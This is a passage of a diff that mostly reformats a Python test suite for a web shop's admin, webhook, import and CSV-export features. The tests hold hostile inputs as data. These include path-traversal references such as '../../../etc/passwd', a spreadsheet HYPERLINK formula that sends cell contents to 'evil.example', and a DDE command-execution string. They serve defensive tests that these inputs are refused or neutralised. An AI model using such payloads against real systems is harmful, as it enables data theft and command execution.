     body = json.dumps({"payment_id": 1, "payment_status": "finished", "junk": "x" * 60000}).encode()
     for _ in range(300):
-        r = requests.post(s.url + "/webhook", data=body, headers={"x-nowpayments-sig": "00"}, timeout=5)
+        r = requests.post(
+            s.url + "/webhook", data=body, headers={"x-nowpayments-sig": "00"}, timeout=5
+        )
         assert r.status_code == 401
     conn = shop.connect(s.config.shop_db)
     count, longest = conn.execute("SELECT count(*), max(length(body)) FROM ipn_events").fetchone()
@@ -492,6 +695,7 @@ def test_refused_ipns_are_kept_short_and_bounded(make_shop):
 
 def test_concurrent_wrong_passwords_still_count(make_shop):
     import concurrent.futures
+
     s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
     with concurrent.futures.ThreadPoolExecutor(16) as pool:
         codes = list(pool.map(lambda _: Admin(s).login("guess").status_code, range(40)))
@@ -505,27 +709,37 @@ def test_an_uploaded_catalog_cannot_name_the_servers_files(admin, tmp_path):
     secret.write_bytes(png())
     for ref in (str(secret), "../../../etc/passwd", "/dev/zero", "img/../../" + secret.name):
         catalog = {"cities": [], "products": [{"name": "P", "price": "1.00", "photo": ref}]}
-        r = admin.post("/admin/import", files={"file": ("c.json", json.dumps(catalog), "application/json")})
+        r = admin.post(
+            "/admin/import", files={"file": ("c.json", json.dumps(catalog), "application/json")}
+        )
         assert "outside the uploaded catalog" in r.text, ref
     assert conn.execute("SELECT count(*) FROM products").fetchone()[0] == 0
-    for junk, words in ((b"PK\x03\x04" + b"\0" * 100, "not a valid ZIP"),
-                        (zip_of({"catalog.json": "{}", "a": "x", "a/b": "y"}), "cannot be read")):
+    for junk, words in (
+        (b"PK\x03\x04" + b"\0" * 100, "not a valid ZIP"),
+        (zip_of({"catalog.json": "{}", "a": "x", "a/b": "y"}), "cannot be read"),
+    ):
         r = admin.post("/admin/import", files={"file": ("c.zip", junk, "application/zip")})
         assert r.status_code == 200 and words in r.text
-    assert not any(admin.shop.import_dir.iterdir())           # nothing left behind
+    assert not any(admin.shop.import_dir.iterdir())  # nothing left behind
 
 
 def test_one_photo_for_a_batch_of_units_is_stored_once(admin):
     conn = admin.shop.conn
     ids = seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 0)])
     product, district = ids[("Gift card", "Mitte")]
-    admin.post(f"/admin/products/{product}/units", {"district_id": district, "units": "\n".join(map(str, range(50)))},
-               files={"media": ("l.png", png(), "image/png")})
-    assert conn.execute("SELECT count(DISTINCT media), count(*) FROM stock_units").fetchone()[:] == (1, 50)
+    admin.post(
+        f"/admin/products/{product}/units",
+        {"district_id": district, "units": "\n".join(map(str, range(50)))},
+        files={"media": ("l.png", png(), "image/png")},
+    )
+    assert conn.execute("SELECT count(DISTINCT media), count(*) FROM stock_units").fetchone()[
+        :
+    ] == (1, 50)
     assert len(list((admin.shop.config.media_dir / "private").iterdir())) == 1
 
 
 # Trust under pressure (issue 10)
+
 
 def session_works(a):
     return a.get("/admin", allow_redirects=False).status_code == 200
@@ -553,9 +767,14 @@ def test_changing_the_password_ends_every_session(make_shop, tmp_path):
     stored = make_shop(env=env)
     owner = Admin(stored)
     assert owner.login(stored.new_admin_password).status_code == 303 and session_works(owner)
-    r = subprocess.run([sys.executable, str(ROOT / "shop.py"), "admin-password", "another long secret"], cwd=tmp_path,
-                       env={"SHOP_DB": s.config.shop_db, "PATH": __import__("os").environ["PATH"]},
-                       capture_output=True, text=True, timeout=30)
+    r = subprocess.run(
+        [sys.executable, str(ROOT / "shop.py"), "admin-password", "another long secret"],
+        cwd=tmp_path,
+        env={"SHOP_DB": s.config.shop_db, "PATH": __import__("os").environ["PATH"]},
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
     assert r.returncode == 0, r.stderr
     assert not session_works(owner)
     assert owner.login("another long secret").status_code == 303 and session_works(owner)
@@ -566,37 +785,51 @@ def test_log_out_everywhere_ends_every_browsers_session(admin):
     other = Admin(admin.shop)
     assert other.login().status_code == 303
     page = admin.get("/admin/settings").text
-    assert "Log out everywhere" in page and page.count("since ") == 2 and page.count("this browser") == 1
+    assert (
+        "Log out everywhere" in page
+        and page.count("since ") == 2
+        and page.count("this browser") == 1
+    )
     r = admin.post("/admin/logout-everywhere")
     assert r.status_code == 303 and r.headers["Location"].endswith("/admin/login")
     assert not session_works(admin) and not session_works(other)
     assert admin.shop.conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0
     assert audit_actions(admin.shop.conn)[-1] == "logged out everywhere"
-    assert admin.post("/admin/logout-everywhere", csrf=False).status_code == 303   # (to the login: no session)
+    assert (
+        admin.post("/admin/logout-everywhere", csrf=False).status_code == 303
+    )  # (to the login: no session)
 
 
 def test_exported_cells_never_become_spreadsheet_formulas(admin):
     conn = admin.shop.conn
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    ids = seed(conn, [("Berlin", "Mitte", formula, 2500, 1), ("Berlin", "Mitte", "@SUM(1+1)", 100, 1)])
+    ids = seed(
+        conn, [("Berlin", "Mitte", formula, 2500, 1), ("Berlin", "Mitte", "@SUM(1+1)", 100, 1)]
+    )
     buyer = user(conn, 21, balance=10000)
     shop.buy_with_balance(conn, buyer, [(*ids[(formula, "Mitte")], 1)])
     shop.buy_with_balance(conn, buyer, [(*ids[("@SUM(1+1)", "Mitte")], 1)])
     shop.adjust_balance(conn, buyer, -500, "+cmd|' /C calc'!A0")
     shop.adjust_balance(conn, buyer, 100, "-2+3")
-    conn.execute("UPDATE users SET username = ? WHERE id = ?", ("\t=1+1", buyer))   # as a forged initData could
+    conn.execute(
+        "UPDATE users SET username = ? WHERE id = ?", ("\t=1+1", buyer)
+    )  # as a forged initData could
     orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
     items = [row[-1] for row in orders_csv[1:]]
     assert items == ["'" + formula + " @ Berlin / Mitte", "'@SUM(1+1) @ Berlin / Mitte"]
     ledger = list(csv.reader(io.StringIO(admin.get("/admin/export/ledger.csv").text)))
     reasons = [row[6] for row in ledger[1:]]
     assert reasons[-2:] == ["'+cmd|' /C calc'!A0", "'-2+3"]
-    assert [row[3] for row in ledger[1:]][-2:] == ["-5.00", "1.00"]     # numbers stay numbers
+    assert [row[3] for row in ledger[1:]][-2:] == ["-5.00", "1.00"]  # numbers stay numbers
     orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
     assert [row[7] for row in orders_csv[1:]] == ["'\t=1+1"] * 2
     for row in orders_csv[1:] + ledger[1:]:
         for cell in row:
-            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell))
+            assert (
+                not cell
+                or cell[0] not in "=+@\t\r"
+                and not (cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell))
+            )
 
 
 def test_adding_units_never_adds_a_code_twice(admin):
@@ -605,12 +838,25 @@ def test_adding_units_never_adds_a_code_twice(admin):
     product, district = ids[("Gift card", "Mitte")]
     page = f"/admin/products/{product}"
     admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA1"})
-    assert admin.flash(page).startswith("2 units added. 1 skipped: pasted more than once, so kept once (A1).")
+    assert admin.flash(page).startswith(
+        "2 units added. 1 skipped: pasted more than once, so kept once (A1)."
+    )
     admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA3"})
-    assert admin.flash(page).startswith("1 unit added. 1 skipped: already in the shop for this product and district")
-    shop.buy_with_balance(conn, user(conn, 22, balance=2500), [(product, district, 1)])      # A1 is sold now
+    assert admin.flash(page).startswith(
+        "1 unit added. 1 skipped: already in the shop for this product and district"
+    )
+    shop.buy_with_balance(
+        conn, user(conn, 22, balance=2500), [(product, district, 1)]
+    )  # A1 is sold now
     admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA3"})
     assert admin.flash(page).startswith("0 units added. 3 skipped: already in the shop")
-    assert sorted(c for (c,) in conn.execute("SELECT content FROM stock_units")) == ["A1", "A2", "A3"]
+    assert sorted(c for (c,) in conn.execute("SELECT content FROM stock_units")) == [
+        "A1",
+        "A2",
+        "A3",
+    ]
     assert audit_actions(conn)[-1] == "units added"
-    assert "skipped 3 already in the shop" in conn.execute("SELECT details FROM audit_log ORDER BY id DESC").fetchone()[0]
+    assert (
+        "skipped 3 already in the shop"
+        in conn.execute("SELECT details FROM audit_log ORDER BY id DESC").fetchone()[0]
+    )
